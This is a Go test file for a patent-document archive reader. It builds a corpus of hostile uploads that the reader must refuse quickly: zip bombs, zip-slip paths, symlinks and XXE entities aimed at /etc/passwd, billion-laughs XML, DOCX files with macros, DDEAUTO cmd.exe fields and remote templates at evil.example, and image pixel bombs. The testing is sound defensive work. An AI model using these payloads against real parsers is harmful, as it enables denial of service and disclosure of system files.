package reader_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"zhibao/internal/fault"
	writer "zhibao/patent/filing"
	"zhibao/patent/reader"
)

// A raw archive is written by hand, so that its headers can lie.
type rawEntry struct {
	name          string
	data          []byte // as stored
	method, flags uint16
	size, packed  uint32 // as declared; 0: the truth
	mode          uint32 // Unix mode, 0: none
	at            int    // offset as declared, -1 or 0: the truth
	extra         []byte
}

func rawZip(entries []rawEntry, tamper func(end []byte)) []byte {
	var buf bytes.Buffer
	var dir bytes.Buffer
	le := binary.LittleEndian
	for _, e := range entries {
		at := buf.Len()
		sum := crc32.ChecksumIEEE(e.data)
		size, packed := e.size, e.packed
		if size == 0 {
			size = uint32(len(e.data))
		}
		if packed == 0 {
			packed = uint32(len(e.data))
		}
		h := make([]byte, 30)
		copy(h, "PK\x03\x04")
		le.PutUint16(h[4:], 20)
		le.PutUint16(h[6:], e.flags)
		le.PutUint16(h[8:], e.method)
		le.PutUint32(h[14:], sum)
		le.PutUint32(h[18:], packed)
		le.PutUint32(h[22:], size)
		le.PutUint16(h[26:], uint16(len(e.name)))
		buf.Write(h)
		buf.WriteString(e.name)
		buf.Write(e.data)
		if e.at > 0 {
			at = e.at
		}
		c := make([]byte, 46)
		copy(c, "PK\x01\x02")
		le.PutUint16(c[4:], 3<<8|20)
		le.PutUint16(c[6:], 20)
		le.PutUint16(c[8:], e.flags)
		le.PutUint16(c[10:], e.method)
		le.PutUint32(c[16:], sum)
		le.PutUint32(c[20:], packed)
		le.PutUint32(c[24:], size)
		le.PutUint16(c[28:], uint16(len(e.name)))
		le.PutUint16(c[30:], uint16(len(e.extra)))
		le.PutUint32(c[38:], e.mode<<16)
		le.PutUint32(c[42:], uint32(at))
		dir.Write(c)
		dir.WriteString(e.name)
		dir.Write(e.extra)
	}
	start := buf.Len()
	buf.Write(dir.Bytes())
	end := make([]byte, 22)
	copy(end, "PK\x05\x06")
	le.PutUint16(end[8:], uint16(len(entries)))
	le.PutUint16(end[10:], uint16(len(entries)))
	le.PutUint32(end[12:], uint32(dir.Len()))
	le.PutUint32(end[16:], uint32(start))
	if tamper != nil {
		tamper(end)
	}
	buf.Write(end)
	return buf.Bytes()
}

func deflated(t testing.TB, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, err := w.CreateHeader(&zip.FileHeader{Name: "x", Method: zip.Deflate})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	r, err := z.File[0].OpenRaw()
	if err != nil {
		t.Fatal(err)
	}
	raw, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

const claimsXML = `<?xml version="1.0" encoding="UTF-8"?><cn-application-body><cn-claims><claim id="c1" num="1"><claim-text>1.一种水壶，其特征在于，包括壶体。</claim-text></claim></cn-claims></cn-application-body>`

// manyEntries has n entries in the directory that all point to one file.
func manyEntries(n int, lie bool) []byte {
	entries := []rawEntry{{name: "100001.xml", data: []byte(claimsXML)}}
	data := rawZip(entries, nil)
	start := int(binary.LittleEndian.Uint32(data[len(data)-6:]))
	one := append([]byte(nil), data[start:len(data)-22]...)
	var buf bytes.Buffer
	buf.Write(data[:start])
	for range n {
		buf.Write(one)
	}
	end := append([]byte(nil), data[len(data)-22:]...)
	count := uint16(n)
	if lie {
		count = 1
	}
	binary.LittleEndian.PutUint16(end[8:], count)
	binary.LittleEndian.PutUint16(end[10:], count)
	binary.LittleEndian.PutUint32(end[12:], uint32(n*len(one)))
	buf.Write(end)
	return buf.Bytes()
}

func zip64Lie() []byte {
	data := rawZip([]rawEntry{{name: "100001.xml", data: []byte(claimsXML)}}, nil)
	body, end := data[:len(data)-22], append([]byte(nil), data[len(data)-22:]...)
	le := binary.LittleEndian
	rec := make([]byte, 56)
	copy(rec, "PK\x06\x06")
	le.PutUint64(rec[4:], 44)
	le.PutUint64(rec[24:], 1<<40)
	le.PutUint64(rec[32:], 1<<40)
	le.PutUint64(rec[40:], 1<<50)
	le.PutUint64(rec[48:], 16)
	loc := make([]byte, 20)
	copy(loc, "PK\x06\x07")
	le.PutUint64(loc[8:], uint64(len(body)))
	le.PutUint16(end[8:], 0xffff)
	le.PutUint16(end[10:], 0xffff)
	le.PutUint32(end[12:], 0xffffffff)
	le.PutUint32(end[16:], 0xffffffff)
	out := append(append([]byte(nil), body...), rec...)
	return append(append(out, loc...), end...)
}

// overlapping is Fifield's construction in small: many entries share one kernel of data.
func overlapping(t testing.TB) []byte {
	words := make([]byte, 4<<20)
	for i, x := 0, uint32(1); i < len(words); i++ {
		x = x*1664525 + 1013904223
		words[i] = byte(x >> 28)
	}
	kernel := deflated(t, words)
	entries := []rawEntry{{name: "100001.xml", data: kernel, method: 8, size: 4 << 20}}
	for i := range 50 {
		entries = append(entries, rawEntry{name: fmt.Sprintf("1%05d.xml", i+10), data: nil, method: 8, size: 4 << 20, packed: uint32(len(kernel)), at: 1})
	}
	return rawZip(entries, nil)
}

func nested(t testing.TB, depth int) []byte {
	data := zipped(t, []string{"100001.xml"}, map[string][]byte{"100001.xml": []byte(claimsXML)})
	for range depth {
		data = zipped(t, []string{"inner.zip"}, map[string][]byte{"inner.zip": data})
	}
	return data
}

func one(t testing.TB, name string, data []byte) []byte {
	return zipped(t, []string{name}, map[string][]byte{name: data})
}

func xmlIn(t testing.TB, doc string) []byte {
	return one(t, "100001/100001.xml", []byte(doc))
}

func word(t testing.TB, body string, more map[string]string) []byte {
	files := map[string][]byte{
		"[Content_Types].xml": []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`),
		"word/document.xml": []byte(`<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` +
			body + `</w:body></w:document>`),
	}
	names := []string{"[Content_Types].xml", "word/document.xml"}
	for n, s := range more {
		if _, ok := files[n]; !ok {
			names = append(names, n)
		}
		files[n] = []byte(s)
	}
	return zipped(t, names, files)
}

func rels(kind, target string) map[string]string {
	return map[string]string{"word/_rels/document.xml.rels": `<Relationships><Relationship Id="r1" Type="http://x/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`}
}

func pngBomb(w, h uint32) []byte {
	var buf bytes.Buffer
	buf.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		_ = binary.Write(&buf, binary.BigEndian, uint32(len(data)))
		body := append([]byte(kind), data...)
		buf.Write(body)
		_ = binary.Write(&buf, binary.BigEndian, crc32.ChecksumIEEE(body))
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 2
	chunk("IHDR", ihdr)
	chunk("IDAT", []byte{0x78, 0x9c, 3, 0, 0, 0, 0, 1})
	chunk("IEND", nil)
	return buf.Bytes()
}

func gifBomb() []byte {
	return []byte("GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;")
}

func tiffBomb() []byte {
	b := make([]byte, 8+2+12*4+4)
	copy(b, "II*\x00")
	le := binary.LittleEndian
	le.PutUint32(b[4:], 8)
	le.PutUint16(b[8:], 4)
	for i, e := range [][3]uint32{{256, 4, 65000}, {257, 4, 65000}, {258, 3, 8}, {262, 3, 1}} {
		p := 10 + i*12
		le.PutUint16(b[p:], uint16(e[0]))
		le.PutUint16(b[p+2:], uint16(e[1]))
		le.PutUint32(b[p+4:], 1)
		le.PutUint32(b[p+8:], e[2])
	}
	return b
}

func bmpBomb() []byte {
	b := make([]byte, 60)
	copy(b, "BM")
	binary.LittleEndian.PutUint32(b[10:], 54)
	binary.LittleEndian.PutUint32(b[14:], 40)
	binary.LittleEndian.PutUint32(b[18:], 60000)
	binary.LittleEndian.PutUint32(b[22:], 60000)
	b[26], b[28] = 1, 24
	return b
}

// hostile is the corpus: what is uploaded, and what the refusal must say.
func hostile(t testing.TB) []struct {
	name, file string
	data       []byte
	code       string
	says       string
} {
	deep := strings.Repeat("<a>", 5000) + strings.Repeat("</a>", 5000)
	laughs := `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "哈"><!ENTITY b "&a;&a;&a;">]><cn-application-body><cn-claims>&b;</cn-claims></cn-application-body>`
	xxe := `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><cn-application-body>&a;</cn-application-body>`
	param := `<?xml version="1.0"?><!DOCTYPE x SYSTEM "a.dtd" [ %remote; ]><cn-application-body/>`
	attr := `<cn-application-body x="` + strings.Repeat("a", 1<<20) + `"/>`
	wide := `<cn-application-body>` + strings.Repeat("<p/>", 700_000) + `</cn-application-body>`
	noise := `<cn-application-body>` + strings.Repeat("a<!---->", 700_000) + `</cn-application-body>`
	para := `<w:p><w:r><w:t>一</w:t></w:r></w:p>`
	stored := []rawEntry{{name: "100001.xml", data: []byte(claimsXML)}}
	return []struct {
		name, file string
		data       []byte
		code       string
		says       string
	}{
		{"10^6 entries", "a.zip", manyEntries(1_000_000, false), "reader.entries", "超过 2000 个"},
		{"10^5 entries, count of 1", "a.zip", manyEntries(100_000, true), "reader.entries", "超过 2000 个"},
		{"3 entries, count of 1", "a.zip", manyEntries(3, true), "", "损坏"},
		{"zip64 lies", "a.zip", zip64Lie(), "", "不予读取|超过|损坏"},
		{"overlapping entries", "a.zip", overlapping(t), "reader.overlap", "重叠"},
		{"ratio 1:1000", "a.zip", one(t, "100001.xml", make([]byte, 8<<20)), "reader.ratio", "压缩比异常"},
		{"ratio 1:5000 declared", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte("x"), method: 8, size: 50 << 20}}, nil), "reader.ratio", "1:52428800"},
		{"entry of 4 GB", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte("x"), method: 8, size: 0xfffffff0}}, nil), "reader.too_large", "64 MB"},
		{"entry longer than it says", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: deflated(t, []byte(claimsXML)), method: 8, size: 5}}, nil), "reader.damaged", "损坏"},
		{"nested 1", "a.zip", nested(t, 1), "reader.nested", "inner.zip"},
		{"nested 10", "a.zip", nested(t, 10), "reader.nested", "inner.zip"},
		{"nested under another name", "a.zip", one(t, "inner.xml", nested(t, 1)), "reader.type", "inner.xml"},
		{"zip slip", "a.zip", one(t, "../../etc/100001.xml", []byte(claimsXML)), "reader.name_outside", "指向压缩包之外"},
		{"zip slip with backslash", "a.zip", one(t, `..\..\100001.xml`, []byte(claimsXML)), "reader.name_outside", "指向压缩包之外"},
		{"dots and blanks", "a.zip", one(t, "a/.. /100001.xml", []byte(claimsXML)), "reader.name_outside", "指向压缩包之外"},
		{"absolute name", "a.zip", one(t, "/etc/100001.xml", []byte(claimsXML)), "reader.name_outside", "指向压缩包之外"},
		{"drive letter", "a.zip", one(t, `C:\100001.xml`, []byte(claimsXML)), "reader.name_outside", "指向压缩包之外"},
		{"symlink", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte("/etc/passwd"), mode: 0o120777}}, nil), "reader.special", "链接"},
		{"device", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte(""), mode: 0o060666}}, nil), "reader.special", "设备"},
		{"duplicate names", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte(claimsXML)}, {name: "100001.XML", data: []byte(claimsXML)}}, nil), "reader.duplicate", "同名"},
		{"encrypted", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte("xxxxxxxxxxxxxxxx"), flags: 1}}, nil), "reader.encrypted", "密码"},
		{"LZMA", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte("xxxx"), method: 14}}, nil), "reader.method", "压缩方式"},
		{"NUL in name", "a.zip", one(t, "100001.xml\x00.jpg", []byte(claimsXML)), "reader.name_control", "控制字符"},
		{"RTL override", "a.zip", one(t, "说明\u202egpj.exe", []byte("x")), "reader.name_control", "反向显示"},
		{"4 KB name", "a.zip", one(t, strings.Repeat("长", 1400)+".xml", []byte(claimsXML)), "reader.name_long", "过长"},
		{"double extension", "a.zip", one(t, "说明书.pdf.exe", []byte("MZ")), "reader.program", "可执行"},
		{"double extension of documents", "a.zip", one(t, "图1.jpg.xml", []byte(claimsXML)), "reader.double_extension", "两个扩展名"},
		{"program", "a.zip", one(t, "setup.exe", []byte("MZ\x90")), "reader.program", "可执行"},
		{"program under another name", "a.zip", one(t, "说明.txt", []byte("MZ\x90\x00\x03\x00\x00\x00")), "reader.type", "可执行"},
		{"script", "a.zip", one(t, "a.js", []byte("alert(1)")), "reader.program", ".js"},
		{"data before the archive", "a.zip", append([]byte("GIF89a"), rawZip(stored, nil)...), "", "不符|损坏|ZIP"},
		{"data after the archive", "a.zip", append(rawZip(stored, nil), "<html>"...), "reader.damaged", "损坏"},
		{"cut archive", "a.zip", rawZip(stored, nil)[:100], "reader.damaged", "损坏"},
		{"empty archive", "a.zip", []byte("PK\x05\x06" + strings.Repeat("\x00", 18)), "reader.empty", "没有文件"},
		{"empty file", "a.zip", nil, "reader.empty", "空"},
		{"RAR", "a.rar", []byte("Rar!\x1a\x07\x01\x00xxxxxxxxxxxxxxxx"), "reader.type", "ZIP"},
		{"7z", "a.zip", []byte("7z\xbc\xaf\x27\x1c\x00\x04xxxxxxxxxxxxxx"), "reader.type", "ZIP"},
		{"old Word", "a.doc", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 600)), "reader.type", ".docx"},
		{"encrypted DOCX", "a.docx", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 600)), "reader.type", "密码"},
		{"PDF", "a.pdf", []byte("%PDF-1.7\n"), "reader.type", "案卷包"},
		{"PDF called XML", "100001.xml", []byte("%PDF-1.7\n"), "reader.type", "PDF"},
		{"HTML", "a.xml", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"), "reader.type", "HTML"},
		{"SVG", "a.xml", []byte(`<?xml version="1.0"?><svg onload="alert(1)"/>`), "reader.type", "SVG"},
		{"XML of something else", "a.xml", []byte(`<?xml version="1.0"?><invoice/>`), "reader.xml_unknown", "invoice"},
		{"picture called XML", "a.xml", pngBomb(1, 1), "reader.type", "不符"},
		{"billion laughs", "a.zip", xmlIn(t, laughs), "reader.xml_entity", "实体"},
		{"XXE", "a.zip", xmlIn(t, xxe), "reader.xml_entity", "实体"},
		{"parameter entity", "a.zip", xmlIn(t, param), "reader.xml_entity", "实体"},
		{"XXE alone", "100001.xml", []byte(xxe), "reader.xml_entity", "实体"},
		{"huge attribute", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte(attr)}}, nil), "reader.xml_too_big", "属性"},
		{"deep XML", "a.zip", xmlIn(t, "<cn-application-body>"+deep+"</cn-application-body>"), "reader.xml_too_big", "层"},
		{"wide XML", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte(wide)}}, nil), "reader.xml_too_big", "元素"},
		{"text in pieces", "a.zip", rawZip([]rawEntry{{name: "100001.xml", data: []byte(noise)}}, nil), "reader.xml_too_big", "元素"},
		{"XML of 30 MB", "100001.xml", []byte("<cn-application-body>" + strings.Repeat("字", 10<<20) + "</cn-application-body>"), "reader.xml_too_big", "MB"},
		{"malformed XML alone", "100001.xml", []byte("<?xml version=\"1.0\"?><cn-application-body><p></cn-application-body>"), "", "格式良好"},
		{"macro", "a.docx", word(t, para, map[string]string{"word/vbaProject.bin": "x"}), "reader.docx_macro", "宏"},
		{"macro content type", "a.docx", word(t, para, map[string]string{"[Content_Types].xml": `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`}), "reader.docx_macro", "宏"},
		{"docm", "a.zip", one(t, "a.docm", []byte("x")), "reader.program", "宏"},
		{"external template", "a.docx", word(t, para, rels("attachedTemplate", "https://evil.example/t.dotm")), "reader.docx_template", "模板"},
		{"remote image", "a.docx", word(t, para, rels("image", "https://evil.example/a.png")), "reader.docx_external", "image"},
		{"remote frame", "a.docx", word(t, para, rels("frame", "http://evil.example/")), "reader.docx_external", "frame"},
		{"OLE", "a.docx", word(t, para, map[string]string{"word/embeddings/oleObject1.bin": "x"}), "reader.docx_ole", "嵌入"},
		{"ActiveX", "a.docx", word(t, para, map[string]string{"word/activeX/activeX1.xml": "<x/>"}), "reader.docx_activex", "ActiveX"},
		{"DDE", "a.docx", word(t, `<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:r></w:p>`, nil), "reader.docx_field", "DDE"},
		{"DDE in a simple field", "a.docx", word(t, `<w:p><w:fldSimple w:instr=" DDE cmd "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, nil), "reader.docx_field", "DDE"},
		{"XXE in DOCX", "a.docx", word(t, "", map[string]string{"word/document.xml": xxe}), "reader.xml_entity", "实体"},
		{"DOCX without body", "a.docx", word(t, "", map[string]string{"word/document.xml": `<w:document/>`}), "reader.docx_body", "正文"},
		{"traditional characters", "a.txt", []byte("權利要求書\n1.一種水壺，其特徵在於，包括壺體。\n說明書\n一種水壺\n技術領域\n本發明涉及水壺。\n"), "reader.traditional", "繁体"},
		{"empty DOCX", "a.docx", word(t, "", nil), "reader.nothing", "没有找到"},
		{"PNG bomb", "a.zip", rezip(t, pack(t, kettle(), writer.Options{Layout: writer.Converter}), replace("100003/100003_1.jpg", pngBomb(65000, 65000))), "reader.picture_pixels", "65000×65000"},
		{"GIF bomb", "a.zip", rezip(t, pack(t, kettle(), writer.Options{Layout: writer.Converter}), replace("100003/100003_1.jpg", gifBomb())), "reader.picture_pixels", "像素"},
		{"TIFF bomb", "a.zip", rezip(t, pack(t, kettle(), writer.Options{Layout: writer.Converter}), replace("100003/100003_1.jpg", tiffBomb())), "reader.picture_pixels", "像素"},
		{"BMP bomb", "a.zip", rezip(t, pack(t, kettle(), writer.Options{Layout: writer.Converter}), replace("100003/100003_1.jpg", bmpBomb())), "reader.picture_pixels", "像素"},
		{"orphan picture bomb", "主视图.png", pngBomb(50000, 50000), "reader.picture_pixels", "像素"},
		{"binary called text", "a.txt", []byte("abc\x00\x01\x02def"), "reader.type", "类型无法识别"},
		{"only noise", "a.zip", one(t, "__MACOSX/._a", []byte("x")), "reader.nothing", "没有找到"},
		{"nothing readable", "a.zip", one(t, "a.pdf", []byte("%PDF-1.7")), "reader.nothing", "没有找到"},
	}
}

func replace(which string, with []byte) func(string, []byte) []byte {
	return func(name string, b []byte) []byte {
		if name == which {
			return with
		}
		return b
	}
}

// TestHostile: every file of the corpus is refused with a fault that names the reason, quickly
// and without much memory.
func TestHostile(t *testing.T) {
	for _, h := range hostile(t) {
		t.Run(h.name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := time.Now()
			a, err := reader.Read(context.Background(), h.file, bytes.NewReader(h.data), int64(len(h.data)), reader.Options{})
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if err == nil {
				t.Fatalf("read: %+v", a.Texts)
			}
			f := fault.Of(err)
			if f == nil {
				t.Fatalf("no fault: %v", err)
			}
			if h.code != "" && f.Code != h.code {
				t.Errorf("code %s, want %s: %s", f.Code, h.code, f.Message)
			}
			found := false
			for word := range strings.SplitSeq(h.says, "|") {
				found = found || strings.Contains(f.Message, word)
			}
			if !found || !strings.Contains(f.Message, "请") || !utf8.ValidString(f.Message) || strings.ContainsFunc(f.Message, func(c rune) bool { return c < 0x20 || c >= 0x202a && c <= 0x202e }) {
				t.Errorf("the message does not say %q and what to do, or shows control characters: %q", h.says, f.Message)
			}
			if len([]rune(f.Message)) > 320 {
				t.Errorf("message of %d characters", len([]rune(f.Message)))
			}
			limit := uint64(64<<20) + 8*uint64(len(h.data))
			if h.code == "reader.xml_too_big" {
				limit = 256 << 20 // the tree up to the limit of elements
			}
			if used := after.TotalAlloc - before.TotalAlloc; used > limit || took > 5*time.Second {
				t.Errorf("%d MB allocated, %v", used>>20, took)
			}
			t.Logf("%v %.1f MB: %s", took.Round(time.Millisecond), float64(after.TotalAlloc-before.TotalAlloc)/(1<<20), f.Message)
		})
	}
}

// TestHostileFolder: links in a folder are refused, not followed.
func TestHostileFolder(t *testing.T) {
	dir := t.TempDir()
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "100001.xml")); err != nil {
		t.Skip(err)
	}
	_, err := reader.ReadFile(context.Background(), dir, reader.Options{})
	if fault.CodeOf(err) != "reader.special" {
		t.Errorf("%v", err)
	}
	if _, err := reader.ReadFile(context.Background(), filepath.Join(dir, "absent.zip"), reader.Options{}); fault.KindOf(err) != fault.Missing {
		t.Errorf("%v", err)
	}
}

// TestCancelled: a request that is given up stops the reading.
func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	data := pack(t, kettle(), writer.Options{})
	if _, err := reader.Read(ctx, "a.zip", bytes.NewReader(data), int64(len(data)), reader.Options{}); err == nil {
		t.Error("read although cancelled")
	}
}

// TestNotAltered: reading opens files for reading only and leaves them as they were.
func TestNotAltered(t *testing.T) {
	dir := t.TempDir()
	data := pack(t, kettle(), writer.Options{Layout: writer.Converter})
	path := filepath.Join(dir, "a.zip")
	if err := os.WriteFile(path, data, 0o400); err != nil {
		t.Fatal(err)
	}
	if _, err := reader.ReadFile(context.Background(), path, reader.Options{}); err != nil {
		t.Fatal(err)
	}
	after, err := os.ReadFile(path)
	if err != nil || !bytes.Equal(after, data) {
		t.Error("the file was altered")
	}
}
